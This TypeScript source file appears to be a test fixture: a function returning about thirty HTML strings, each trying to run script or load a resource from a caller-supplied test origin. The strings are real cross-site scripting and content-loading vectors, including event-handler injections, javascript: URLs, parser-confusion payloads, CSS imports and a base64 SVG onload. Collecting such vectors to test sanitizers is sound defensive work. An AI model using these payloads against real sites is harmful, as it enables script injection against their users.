/** Bodies that try to run something (`ran`) or to load something (`loaded`) at a host, by the ways that known attack lists name. */
export function hostileHtml(origin: string): readonly string[] {
  const run = `new Image().src='${origin}/ran'`;
  const load = `${origin}/loaded`;
  return [
    `<script>${run}</script>`,
    `<script src="${load}.js"></script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<img src=x onerror="${run}">`,
    `<img/src=x/onerror="${run}">`,
    `<svg onload="${run}"><circle r="9"/></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><image href="${load}.png"/><use href="${load}.svg#x"/></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<body onload="${run}">`,
    `<details open ontoggle="${run}">x</details>`,
    `<video autoplay onplay="${run}" src="${load}.mp4"></video><audio src="${load}.mp3" autoplay></audio>`,
    `<iframe src="javascript:parent.${run}"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<iframe src="${load}.html"></iframe><object data="${load}.swf"></object><embed src="${load}.pdf">`,
    `<link rel="stylesheet" href="${load}.css"><link rel="preload" as="image" href="${load}.png">`,
    `<style>@import "${load}.css"; body{background:url(${load}.gif)} @font-face{font-family:x;src:url(${load}.woff)} p{font-family:x}</style><p>x</p>`,
    `<p style="background:url('${load}.jpg')">x</p><table background="${load}.gif"><tr><td background="${load}.png">x</td></tr></table>`,
    `<p style="background:\\75rl(${load}.jpg);width:expression(${run})">x</p>`,
    `<img src="${load}.png" srcset="${load}2.png 2x"><picture><source srcset="${load}.webp"><img src="${load}.png"></picture>`,
    `<input type="image" src="${load}.png"><video poster="${load}.png"></video>`,
    `<meta http-equiv="refresh" content="0;url=${load}.html">`,
    `<base href="${origin}/loaded/"><img src="relative.png">`,
    `<form id="f" action="${load}" method="get"><input autofocus onfocus="${run};this.form.submit()" name="a" value="1"></form>`,
    `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
    `<marquee onstart="${run}">x</marquee><keygen autofocus onfocus="${run}"><select autofocus onfocus="${run}"></select>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
    `<template><script>${run}</script></template><xmp><img title="</xmp><img src=x onerror=${run}>"></xmp>`,
    `<div data-remote-src="x" onmouseover="${run}" style="position:fixed;inset:0">x</div>`,
    `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`).toString('base64')}">`,
  ];
}
